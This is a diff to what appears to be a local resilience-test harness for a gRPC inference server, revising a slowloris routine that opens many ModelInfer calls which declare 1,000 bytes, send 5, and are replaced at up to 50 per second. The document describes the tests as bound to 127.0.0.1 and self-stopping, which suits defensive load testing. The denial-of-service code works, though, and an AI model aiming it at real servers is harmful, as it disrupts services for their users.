@@ -5,7 +5,8 @@ bounded, to 127.0.0.1 only, stopping by themselves.
   (and acknowledge the server's) and nothing more; up to the server's default cap (1,000) plus
   300, opened at most 200 per second; those the server closes are replaced at the same pace.
 - `grpc_slowloris`: 12 connections x 100 `ModelInfer` calls whose message declares 1,000 bytes
-  and sends 5 (about 17 KB in all); each call the server ends is replaced by a new one.
+  and sends 5 (about 17 KB in all); each call the server ends is replaced by a new one, at most
+  50 per second per connection.
 
 `LegitGrpcCalls` is the legitimate gRPC client measured beside them: one `tritonclient.grpc`
 channel, opened before the attack, calling ModelInfer at a fixed rate.
@@ -138,23 +139,35 @@ async def grpc_slowloris(ctx: GrpcTarget, connections: int = 12, calls: int = 10
                     writer.write(incomplete_infer(next_stream))
                     next_stream += 2
                 ctx.counts["calls"] += calls
+                owed = 0  # calls the server ended, to be replaced at most 50 per second
                 while not ctx.stop.is_set():
-                    data = await reader.read(65536)
-                    if not data:
+                    try:
+                        data = await asyncio.wait_for(reader.read(65536), 0.1)
+                    except TimeoutError:
+                        data = None
+                    if data == b"":
                         ctx.counts["closed_by_server"] += 1
                         break
-                    buffer += data
-                    for kind, flags, _ in _frames(buffer):
+                    buffer += data or b""
+                    for kind, flags, stream in _frames(buffer):
                         if kind == 4 and not flags & 1:
                             writer.write(frame(4, 1, 0))
-                        elif (kind == 1 and flags & 1) or kind == 3:  # the server ended a call: open another
-                            ctx.counts["calls_ended_by_server"] += 1
-                            if next_stream < 2**31 - 1:
-                                writer.write(incomplete_infer(next_stream))
-                                next_stream += 2
-                                ctx.counts["calls"] += 1
+                        elif kind == 1 and flags & 1:  # the server answered: close our side too
+                            writer.write(frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
+                            ctx.counts["calls_answered_by_server"] += 1
+                            owed += 1
+                        elif kind == 3:
+                            ctx.counts["calls_reset_by_server"] += 1
+                            owed += 1
                         elif kind == 7:
                             ctx.counts["goaway"] += 1
+                    if owed and next_stream < 2**31 - 1000:
+                        for _ in range(min(owed, 5)):
+                            writer.write(incomplete_infer(next_stream))
+                            next_stream += 2
+                        ctx.counts["calls"] += min(owed, 5)
+                        owed -= min(owed, 5)
+                        await ctx.pause(0.1)
             except OSError:
                 ctx.counts["reset_by_server"] += 1
             finally:
